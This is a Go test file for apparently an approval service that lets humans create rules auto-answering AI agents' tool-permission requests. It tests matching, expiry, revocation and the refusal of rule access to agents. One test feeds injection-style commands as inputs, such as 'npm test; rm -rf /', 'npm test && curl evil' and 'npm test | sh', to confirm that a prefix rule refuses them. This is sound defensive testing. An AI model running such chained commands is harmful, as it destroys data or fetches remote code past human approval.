package httpapi_test

import (
	"encoding/json"
	"fmt"
	"net/http"
	"reflect"
	"strings"
	"testing"
	"time"

	"github.com/askd-dev/askd"
	"github.com/askd-dev/askd/client"
	"github.com/askd-dev/askd/internal/app"
	"github.com/askd-dev/askd/internal/pgtest"
	"github.com/askd-dev/askd/internal/testserver"
)

// The rules tests run on SQLite and on PostgreSQL (a throwaway cluster, see
// internal/pgtest), and read the store back rather than trusting replies.

func TestMain(m *testing.M) { pgtest.Main(m) }

// eachStore runs f on a server over SQLite and on one over PostgreSQL.
func eachStore(t *testing.T, cfg app.Config, f func(t *testing.T, s *testserver.Server)) {
	t.Run("sqlite", func(t *testing.T) { f(t, testserver.Start(t, testserver.Options{Config: cfg})) })
	t.Run("postgres", func(t *testing.T) {
		st := testserver.OpenPostgres(t, pgtest.URL(t))
		f(t, testserver.Start(t, testserver.Options{Config: cfg, Store: st}))
	})
}

// bashInput is a Bash tool call's input.
func bashInput(command string) string {
	b, _ := json.Marshal(map[string]string{"command": command, "description": "run it"})
	return string(b)
}

// toolApproval creates, through the agent API, an approval shaped as a
// permission prompt's, and returns it as the reply has it (answered at once
// when a rule matches; else pending).
func toolApproval(t *testing.T, c *client.Client, tool, input string) *askd.Ask {
	t.Helper()
	a, err := c.Create(ctxT(t), &askd.AskInput{Kind: askd.KindApproval, Title: "Allow " + tool, ToolName: tool, Payload: json.RawMessage(input)}, 0)
	if err != nil {
		t.Fatalf("create %s approval: %v", tool, err)
	}
	return a
}

// storedAsk reads ask id and its history from the store.
func storedAsk(t *testing.T, s *testserver.Server, id int64) (*askd.Ask, []*askd.Event) {
	t.Helper()
	var a *askd.Ask
	var hist []*askd.Event
	err := s.Store.View(ctxT(t), func(tx askd.Tx) (err error) {
		if a, err = tx.Asks.Ask(ctxT(t), id); err != nil {
			return err
		}
		hist, err = tx.Events.AskHistory(ctxT(t), id)
		return err
	})
	if err != nil {
		t.Fatal(err)
	}
	return a, hist
}

// storedRules reads every rule from the store, live or not.
func storedRules(t *testing.T, s *testserver.Server) []*askd.Rule {
	t.Helper()
	var rules []*askd.Rule
	err := s.Store.View(ctxT(t), func(tx askd.Tx) (err error) {
		rules, err = tx.Rules.FindRules(ctxT(t), askd.RuleFilter{})
		return err
	})
	if err != nil {
		t.Fatal(err)
	}
	return rules
}

// wantPending fails the test unless ask id is stored pending with only its
// created event: no rule answered it.
func wantPending(t *testing.T, s *testserver.Server, id int64, why string) {
	t.Helper()
	a, hist := storedAsk(t, s, id)
	if !a.Pending() || len(hist) != 1 || hist[0].Action != askd.ActionCreated {
		t.Fatalf("%s: ask %d is %s by %q with %d events; want pending, untouched", why, id, a.Status, a.SettledBy, len(hist))
	}
}

// wantRuleAnswered fails the test unless ask id is stored answered by rule
// r at once: decision, settled_by, and its history's note naming the rule
// and who made it.
func wantRuleAnswered(t *testing.T, s *testserver.Server, id int64, r *askd.Rule) {
	t.Helper()
	a, hist := storedAsk(t, s, id)
	decision, verb := askd.DecisionApproved, "allowed"
	if r.Effect == askd.EffectDeny {
		decision, verb = askd.DecisionRejected, "denied"
	}
	note := fmt.Sprintf("%s by rule %d (made by %s)", verb, r.ID, r.CreatedBy)
	by := fmt.Sprintf("rule %d", r.ID)
	if a.Status != askd.StatusAnswered || a.Answer == nil || a.Answer.Decision != decision || a.SettledBy != by || a.Answer.Comment != note {
		t.Fatalf("ask %d: %s, settled by %q, answer %+v; want %s by %q", id, a.Status, a.SettledBy, a.Answer, decision, by)
	}
	var actions []string
	for _, e := range hist {
		actions = append(actions, e.Action)
	}
	if len(hist) < 2 || hist[0].Action != askd.ActionCreated || hist[1].Action != askd.ActionAnswered || hist[1].Actor != by || hist[1].Note != note {
		t.Fatalf("ask %d history %v (%+v); want created, then answered by %q noting %q", id, actions, hist, by, note)
	}
}

// makeRule makes a rule from ask id as the server's person.
func makeRule(t *testing.T, s *testserver.Server, in askd.RuleInput) *askd.Rule {
	t.Helper()
	r, err := s.Human().CreateRule(ctxT(t), &in)
	if err != nil {
		t.Fatalf("make rule %+v: %v", in, err)
	}
	return r
}

// A rule made while answering one permission request answers the next
// matching one at once, through the PermissionRequest hook: the agent gets
// Claude's usual reply, and the inbox shows the ask settled among the recent
// ones, by the rule, naming who made it. Deny rules the same way.
func TestRuleAnswersPermissionRequestHook(t *testing.T) {
	eachStore(t, app.Config{}, func(t *testing.T, s *testserver.Server) {
		ctx := ctxT(t)
		session := "hook-run"
		first := postAsync(t, s, "", permissionRequest(session, "Bash", bashInput("npm test -- --ci")), nil)
		a := firstPending(t, s, session)
		if _, err := s.Human().Answer(ctx, a.ID, &askd.Answer{Decision: askd.DecisionApproved}); err != nil {
			t.Fatal(err)
		}
		if r := awaitReply(t, first); !strings.Contains(r.body, `"behavior":"allow"`) {
			t.Fatalf("first reply %s", r.body)
		}
		before := time.Now()
		r := makeRule(t, s, askd.RuleInput{AskID: a.ID, Match: askd.MatchPrefix, Prefix: "npm test", Effect: askd.EffectAllow, RuleLife: askd.RuleLife{For: "8h"}})
		want := askd.Rule{ID: r.ID, Agent: s.AgentName, Session: session, Tool: "Bash", Match: askd.MatchPrefix, Prefix: "npm test",
			Effect: askd.EffectAllow, AskID: a.ID, CreatedBy: s.HumanName, CreatedAt: r.CreatedAt, ExpiresAt: r.ExpiresAt}
		if !reflect.DeepEqual(*r, want) || r.ExpiresAt.Sub(r.CreatedAt) != 8*time.Hour || r.CreatedAt.Before(before.Add(-time.Minute)) {
			t.Fatalf("rule %+v, want %+v for 8h", r, want)
		}
		if stored := storedRules(t, s); len(stored) != 1 || stored[0].ID != r.ID || stored[0].Prefix != "npm test" {
			t.Fatalf("stored rules %+v", stored)
		}

		// The next matching request: answered at once, with no card.
		reply := postHook(ctx, t, s, s.AgentToken, "", permissionRequest(session, "Bash", bashInput("npm test")), nil)
		wantReply(t, reply, 200, `{"hookSpecificOutput":{"hookEventName":"PermissionRequest","decision":{"behavior":"allow","updatedInput":{"command":"npm test","description":"run it"}}}}`+"\n")
		settled, err := s.Human().List(ctx, client.ListOptions{Session: session})
		if err != nil {
			t.Fatal(err)
		}
		if len(settled) != 2 || settled[0].Pending() || settled[0].SettledBy != fmt.Sprintf("rule %d", r.ID) {
			t.Fatalf("inbox lists %d asks, newest %+v; want two settled, the newest by the rule", len(settled), settled[0])
		}
		wantRuleAnswered(t, s, settled[0].ID, r)

		// A deny rule, made from a request the person rejected.
		second := postAsync(t, s, "", permissionRequest(session, "Write", `{"file_path":"/srv/app/.env","content":"x"}`), nil)
		w := firstPending(t, s, session)
		if _, err := s.Human().Answer(ctx, w.ID, &askd.Answer{Decision: askd.DecisionRejected}); err != nil {
			t.Fatal(err)
		}
		awaitReply(t, second)
		deny := makeRule(t, s, askd.RuleInput{AskID: w.ID, Match: askd.MatchTool, Effect: askd.EffectDeny, RuleLife: askd.RuleLife{For: "30m"}})
		reply = postHook(ctx, t, s, s.AgentToken, "", permissionRequest(session, "Write", `{"file_path":"/srv/app/main.go","content":"y"}`), nil)
		wantReply(t, reply, 200, fmt.Sprintf(`{"hookSpecificOutput":{"hookEventName":"PermissionRequest","decision":{"behavior":"deny","message":"The user rejected this: denied by rule %d (made by %s)"}}}`, deny.ID, s.HumanName)+"\n")
		asks, err := s.Human().List(ctx, client.ListOptions{Session: session, Limit: 1})
		if err != nil {
			t.Fatal(err)
		}
		wantRuleAnswered(t, s, asks[0].ID, deny)

		// Counted by effect.
		code, body := rawRequest(t, s, "GET", "/metrics", "", "", nil)
		for _, line := range []string{`askd_rule_answers_total{effect="allow"} 1`, `askd_rule_answers_total{effect="deny"} 1`} {
			if code != 200 || !strings.Contains(body, line) {
				t.Errorf("/metrics (%d) lacks %s", code, line)
			}
		}
	})
}

// A rule belongs to one agent token's session: another agent token's
// session of the same name is another session, and gets no auto-answer.
func TestRuleNeverAnswersAnotherAgent(t *testing.T) {
	eachStore(t, app.Config{}, func(t *testing.T, s *testserver.Server) {
		ctx := ctxT(t)
		mine := s.Agent("s1")
		theirs := client.New(s.URL, s.Token(t, "agent-b", askd.RoleAgent))
		theirs.Session = "s1"
		a := toolApproval(t, mine, "Bash", bashInput("npm test"))
		r := makeRule(t, s, askd.RuleInput{AskID: a.ID, Match: askd.MatchTool, Effect: askd.EffectAllow, RuleLife: askd.RuleLife{For: "8h"}})
		rulesBefore := storedRules(t, s)

		b := toolApproval(t, theirs, "Bash", bashInput("npm test"))
		if !b.Pending() || b.Agent != "agent-b" {
			t.Fatalf("agent-b's ask in its own s1: %s by %q, want pending", b.Status, b.SettledBy)
		}
		wantPending(t, s, b.ID, "another agent's session of the same name")
		if got := storedRules(t, s); !reflect.DeepEqual(got, rulesBefore) {
			t.Fatalf("rules changed: %+v, were %+v", got, rulesBefore)
		}
		// And the rule still answers its own session.
		c := toolApproval(t, mine, "Bash", bashInput("go vet ./..."))
		wantRuleAnswered(t, s, c.ID, r)
		if _, err := theirs.Check(ctx, c.ID, 0); askd.ErrorCode(err) != askd.ENOTFOUND {
			t.Fatalf("agent-b reads agent-1's ask: %v", err)
		}
	})
}

// Expired and revoked rules answer nothing, are not listed, and cannot be
// changed; expiry is by the server's clock.
func TestExpiredAndRevokedRulesAnswerNothing(t *testing.T) {
	clk := newClock()
	eachStore(t, app.Config{Now: clk.Now, ApprovalTimeout: 24 * time.Hour}, func(t *testing.T, s *testserver.Server) {
		ctx := ctxT(t)
		agent := s.Agent("s1")
		a := toolApproval(t, agent, "Bash", bashInput("make test"))
		short := makeRule(t, s, askd.RuleInput{AskID: a.ID, Match: askd.MatchPrefix, Prefix: "make test", Effect: askd.EffectAllow, RuleLife: askd.RuleLife{For: "1h"}})
		long := makeRule(t, s, askd.RuleInput{AskID: a.ID, Match: askd.MatchPrefix, Prefix: "make", Effect: askd.EffectAllow, RuleLife: askd.RuleLife{For: "3h"}})
		if live, err := s.Human().Rules(ctx, "", ""); err != nil || len(live) != 2 {
			t.Fatalf("live rules %v, %v; want two", live, err)
		}

		// Past the first's expiry: the second answers (the oldest live one).
		clk.Advance(time.Hour)
		b := toolApproval(t, agent, "Bash", bashInput("make test"))
		wantRuleAnswered(t, s, b.ID, long)
		if live, err := s.Human().Rules(ctx, s.AgentName, "s1"); err != nil || len(live) != 1 || live[0].ID != long.ID {
			t.Fatalf("live rules after the first expired: %+v, %v", live, err)
		}
		if _, err := s.Human().ChangeRule(ctx, short.ID, askd.RuleLife{For: "2h"}); askd.ErrorCode(err) != askd.ECONFLICT || !strings.Contains(err.Error(), "expired") {
			t.Fatalf("extending an expired rule: %v, want 409 saying it expired", err)
		}

		// Changing the expiry moves it, from now.
		changed, err := s.Human().ChangeRule(ctx, long.ID, askd.RuleLife{For: "30m"})
		if err != nil || !changed.ExpiresAt.Equal(clk.Now().UTC().Truncate(time.Microsecond).Add(30*time.Minute)) {
			t.Fatalf("change expiry: %+v, %v", changed, err)
		}
		clk.Advance(31 * time.Minute)
		c := toolApproval(t, agent, "Bash", bashInput("make test"))
		wantPending(t, s, c.ID, "every rule expired")

		// Revoked: one made afresh, then revoked.
		fresh := makeRule(t, s, askd.RuleInput{AskID: c.ID, Match: askd.MatchTool, Effect: askd.EffectAllow, RuleLife: askd.RuleLife{For: "8h"}})
		revoked, err := s.Human().RevokeRule(ctx, fresh.ID)
		if err != nil || revoked.RevokedAt == nil || revoked.RevokedBy != s.HumanName {
			t.Fatalf("revoke: %+v, %v", revoked, err)
		}
		d := toolApproval(t, agent, "Bash", bashInput("make test"))
		wantPending(t, s, d.ID, "the rule was revoked")
		if live, err := s.Human().Rules(ctx, "", ""); err != nil || len(live) != 0 {
			t.Fatalf("live rules after revoking: %+v, %v", live, err)
		}
		if _, err := s.Human().RevokeRule(ctx, fresh.ID); askd.ErrorCode(err) != askd.ECONFLICT {
			t.Fatalf("revoking twice: %v, want 409", err)
		}
		if _, err := s.Human().RevokeRule(ctx, fresh.ID+100); askd.ErrorCode(err) != askd.ENOTFOUND {
			t.Fatalf("revoking no rule: %v, want 404", err)
		}
		for _, r := range storedRules(t, s) {
			if r.ID == fresh.ID && (r.RevokedAt == nil || r.RevokedBy != s.HumanName) {
				t.Fatalf("stored revoked rule %+v", r)
			}
		}
	})
}

// A prefix rule never answers a command that does more than run one
// command: whatever follows the prefix, a shell operator or substitution
// anywhere brings it to the inbox.
func TestPrefixRuleRefusesShellOperators(t *testing.T) {
	eachStore(t, app.Config{}, func(t *testing.T, s *testserver.Server) {
		agent := s.Agent("s1")
		a := toolApproval(t, agent, "Bash", bashInput("npm test"))
		r := makeRule(t, s, askd.RuleInput{AskID: a.ID, Match: askd.MatchPrefix, Prefix: "npm test", Effect: askd.EffectAllow, RuleLife: askd.RuleLife{For: "8h"}})
		for _, cmd := range []string{
			"npm test; rm -rf /", "npm test;rm -rf /", "npm test && curl evil", "npm test || curl evil", "npm test & curl evil",
			"npm test | sh", "npm test > ~/.bashrc", "npm test < /dev/tty", "npm test $(curl evil)", "npm test `curl evil`",
			"npm test\nrm -rf /", "npm testify", "npm run test", "sudo npm test",
		} {
			b := toolApproval(t, agent, "Bash", bashInput(cmd))
			wantPending(t, s, b.ID, fmt.Sprintf("%q", cmd))
		}
		ok := toolApproval(t, agent, "Bash", bashInput("npm test -- --watch=false"))
		wantRuleAnswered(t, s, ok.ID, r)
	})
}

// request_approval asks (no tool) are matched by their exact title, in the
// session.
func TestTitleRule(t *testing.T) {
	eachStore(t, app.Config{}, func(t *testing.T, s *testserver.Server) {
		ctx := ctxT(t)
		agent := s.Agent("s1")
		a, err := agent.Create(ctx, &askd.AskInput{Kind: askd.KindApproval, Title: "Deploy to staging?"}, 0)
		if err != nil {
			t.Fatal(err)
		}
		r := makeRule(t, s, askd.RuleInput{AskID: a.ID, Match: askd.MatchTitle, Effect: askd.EffectAllow, RuleLife: askd.RuleLife{For: "2h"}})
		if r.Title != "Deploy to staging?" || r.Tool != "" {
			t.Fatalf("title rule %+v", r)
		}
		b, err := agent.Create(ctx, &askd.AskInput{Kind: askd.KindApproval, Title: "Deploy to staging?", Details: "build 42"}, 0)
		if err != nil {
			t.Fatal(err)
		}
		if b.Status != askd.StatusAnswered || b.Answer.Decision != askd.DecisionApproved {
			t.Fatalf("the agent's reply %+v, want approved", b)
		}
		wantRuleAnswered(t, s, b.ID, r)
		c, err := agent.Create(ctx, &askd.AskInput{Kind: askd.KindApproval, Title: "Deploy to production?"}, 0)
		if err != nil {
			t.Fatal(err)
		}
		wantPending(t, s, c.ID, "another title")
	})
}

// Agents never make, change, revoke or see rules: 403 on every path, on the
// bearer token with or without a session, and the store is unchanged. Bad
// rules are 422 naming the field; malformed bodies 400, as everywhere.
func TestRulesRefusals(t *testing.T) {
	eachStore(t, app.Config{}, func(t *testing.T, s *testserver.Server) {
		ctx := ctxT(t)
		bash := toolApproval(t, s.Agent("s1"), "Bash", bashInput("npm test"))
		edit := toolApproval(t, s.Agent("s1"), "Edit", `{"file_path":"/srv/app/src/main.go","old_string":"a","new_string":"b"}`)
		risky := toolApproval(t, s.Agent("s1"), "Bash", bashInput("npm test && npm run deploy"))
		plain, err := s.Agent("s1").Create(ctx, &askd.AskInput{Kind: askd.KindApproval, Title: "Deploy?"}, 0)
		if err != nil {
			t.Fatal(err)
		}
		q, err := s.Agent("s1").Create(ctx, question(false, "Which?"), 0)
		if err != nil {
			t.Fatal(err)
		}
		r := makeRule(t, s, askd.RuleInput{AskID: bash.ID, Match: askd.MatchTool, Effect: askd.EffectAllow, RuleLife: askd.RuleLife{For: "1h"}})
		rulesBefore, asksBefore := storedRules(t, s), snapshot(t, s)

		body := func(format string, args ...any) string { return fmt.Sprintf(format, args...) }
		rule := fmt.Sprintf("/api/rules/%d", r.ID)
		tests := []struct {
			name, method, path, token, body string
			hdr                             map[string]string
			want                            int
			msg                             string
		}{
			{"agent lists", "GET", "/api/rules", s.AgentToken, "", nil, 403, "agent tokens cannot"},
			{"agent lists its session", "GET", "/api/rules?agent=" + s.AgentName + "&session=s1", s.AgentToken, "", map[string]string{"Askd-Session": "s1"}, 403, "agent tokens cannot"},
			{"agent makes", "POST", "/api/rules", s.AgentToken, body(`{"ask_id":%d,"match":"tool","effect":"allow","for":"8h"}`, bash.ID), map[string]string{"Askd-Session": "s1"}, 403, "agent tokens cannot"},
			{"agent extends", "PATCH", rule, s.AgentToken, `{"for":"30d"}`, nil, 403, "agent tokens cannot"},
			{"agent revokes", "DELETE", rule, s.AgentToken, "", map[string]string{"Askd-Session": "s1"}, 403, "agent tokens cannot"},
			{"no token", "GET", "/api/rules", "", "", nil, 401, ""},
			{"unknown field", "POST", "/api/rules", s.HumanToken, body(`{"ask_id":%d,"match":"tool","effect":"allow","for":"8h","scope":"all"}`, bash.ID), nil, 400, "scope: unknown field"},
			{"unknown field in a change", "PATCH", rule, s.HumanToken, `{"for":"2h","effect":"deny"}`, nil, 400, "effect: unknown field"},
			{"no such ask", "POST", "/api/rules", s.HumanToken, `{"ask_id":99999,"match":"tool","effect":"allow","for":"8h"}`, nil, 422, "ask_id: no ask 99999"},
			{"a question", "POST", "/api/rules", s.HumanToken, body(`{"ask_id":%d,"match":"title","effect":"allow","for":"8h"}`, q.ID), nil, 422, "rules answer approvals only"},
			{"no expiry", "POST", "/api/rules", s.HumanToken, body(`{"ask_id":%d,"match":"tool","effect":"allow"}`, bash.ID), nil, 422, "for: required"},
			{"forever", "POST", "/api/rules", s.HumanToken, body(`{"ask_id":%d,"match":"tool","effect":"allow","for":"8760h"}`, bash.ID), nil, 422, "for: 8760h is longer than a rule may live"},
			{"bad effect", "POST", "/api/rules", s.HumanToken, body(`{"ask_id":%d,"match":"tool","effect":"approve","for":"8h"}`, bash.ID), nil, 422, `effect: "approve" is not allow or deny`},
			{"prefix without prefix", "POST", "/api/rules", s.HumanToken, body(`{"ask_id":%d,"match":"prefix","effect":"allow","for":"8h"}`, bash.ID), nil, 422, "prefix: required"},
			{"prefix not of the ask", "POST", "/api/rules", s.HumanToken, body(`{"ask_id":%d,"match":"prefix","prefix":"rm","effect":"allow","for":"8h"}`, bash.ID), nil, 422, `prefix: "rm" does not start ask`},
			{"prefix with an operator", "POST", "/api/rules", s.HumanToken, body(`{"ask_id":%d,"match":"prefix","prefix":"npm test &&","effect":"allow","for":"8h"}`, risky.ID), nil, 422, "prefix: contains &"},
			{"an ask with an operator", "POST", "/api/rules", s.HumanToken, body(`{"ask_id":%d,"match":"prefix","prefix":"npm test","effect":"allow","for":"8h"}`, risky.ID), nil, 422, "command contains &, so no prefix rule answers it"},
			{"path not absolute", "POST", "/api/rules", s.HumanToken, body(`{"ask_id":%d,"match":"prefix","prefix":"src","effect":"allow","for":"8h"}`, edit.ID), nil, 422, "not an absolute path"},
			{"path elsewhere", "POST", "/api/rules", s.HumanToken, body(`{"ask_id":%d,"match":"prefix","prefix":"/srv/app/docs","effect":"allow","for":"8h"}`, edit.ID), nil, 422, "is not \"/srv/app/docs\" or under it"},
			{"title on a tool call", "POST", "/api/rules", s.HumanToken, body(`{"ask_id":%d,"match":"title","effect":"allow","for":"8h"}`, bash.ID), nil, 422, "match: title rules are for request_approval asks"},
			{"tool on a request_approval", "POST", "/api/rules", s.HumanToken, body(`{"ask_id":%d,"match":"tool","effect":"allow","for":"8h"}`, plain.ID), nil, 422, "has no tool"},
			{"change into the past", "PATCH", rule, s.HumanToken, `{"expires_at":"2001-01-01T00:00:00Z"}`, nil, 422, "expires_at: 2001-01-01T00:00:00Z is not in the future"},
			{"change to both", "PATCH", rule, s.HumanToken, `{"for":"1h","expires_at":"2099-01-01T00:00:00Z"}`, nil, 422, "not both"},
			{"change no rule", "PATCH", "/api/rules/99999", s.HumanToken, `{"for":"1h"}`, nil, 404, "rule 99999 not found"},
			{"bad id", "DELETE", "/api/rules/x", s.HumanToken, "", nil, 400, "id:"},
		}
		for _, tt := range tests {
			t.Run(tt.name, func(t *testing.T) {
				code, got := rawRequest(t, s, tt.method, tt.path, tt.token, tt.body, tt.hdr)
				var e struct{ Error string }
				_ = json.Unmarshal([]byte(got), &e)
				if code != tt.want || !strings.Contains(e.Error, tt.msg) {
					t.Fatalf("got %d %s, want %d containing %q", code, got, tt.want, tt.msg)
				}
			})
		}
		if got := storedRules(t, s); !reflect.DeepEqual(got, rulesBefore) {
			t.Fatalf("refused requests changed the rules: %+v, were %+v", got, rulesBefore)
		}
		if after := snapshot(t, s); after != asksBefore {
			t.Fatal("refused requests changed the asks")
		}

		// The inbox's cookie works as the human token does, same-origin.
		ck := s.BrowserCookie(t, s.HumanName)
		cookie := map[string]string{"Cookie": ck.Name + "=" + ck.Value}
		if code, got := rawRequest(t, s, "GET", "/api/rules?session=s1", "", "", cookie); code != http.StatusOK || !strings.Contains(got, fmt.Sprintf(`"id":%d`, r.ID)) {
			t.Fatalf("cookie list: %d %s", code, got)
		}
		if code, _ := rawRequest(t, s, "DELETE", rule, "", "", cookie); code != http.StatusForbidden {
			t.Fatalf("cookie DELETE without Origin: %d, want 403", code)
		}
		cookie["Origin"] = s.URL
		if code, got := rawRequest(t, s, "PATCH", rule, "", `{"for":"2h"}`, cookie); code != http.StatusOK || !strings.Contains(got, `"created_by":"`+s.HumanName+`"`) {
			t.Fatalf("cookie PATCH: %d %s", code, got)
		}
	})
}
